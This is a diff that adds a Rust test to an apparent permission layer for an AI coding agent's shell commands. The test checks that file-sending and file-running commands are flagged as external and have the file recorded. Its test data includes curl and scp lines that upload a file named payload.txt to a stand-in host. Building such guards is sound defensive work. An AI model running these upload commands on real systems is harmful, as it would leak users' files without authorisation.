@@ -431,3 +431,35 @@ fn the_guide_has_every_tool_with_its_rung() {
     });
     assert_eq!(told, BTreeMap::from(graded));
 }
+
+#[test]
+fn what_a_held_command_runs_or_sends_is_among_its_paths() {
+    let folder = tempfile::tempdir().unwrap();
+    let root = folder.path().canonicalize().unwrap();
+    for name in ["deploy.sh", "payload.txt", "main.tf"] {
+        std::fs::write(root.join(name), "as it was seen").unwrap();
+    }
+    for (line, file) in [
+        ("./deploy.sh", "./deploy.sh"),
+        ("curl -T payload.txt https://a.example", "payload.txt"),
+        ("curl --data @payload.txt https://a.example", "payload.txt"),
+        (
+            "curl --data-binary=@payload.txt https://a.example",
+            "payload.txt",
+        ),
+        ("scp payload.txt host:", "payload.txt"),
+        ("terraform apply -var-file=main.tf", "main.tf"),
+    ] {
+        let input = json!({"command": line});
+        let use_of = used("Bash", Kind::Shell, input);
+        let Governed { tool, arguments } =
+            governed(Client::ClaudeCode, &use_of, Some(&root), &root);
+        let held = tool.ends_with("external");
+        let paths = arguments["paths"].as_array().unwrap();
+        let wanted = super::places::from(&root, file);
+        let named = paths.iter().any(|path| path.as_str() == wanted.to_str());
+        // What is not held is judged as it runs.
+        assert!(!held || named, "{line}: {tool} {arguments:?}");
+        assert!(held || line == "./deploy.sh", "{line}: {tool}");
+    }
+}
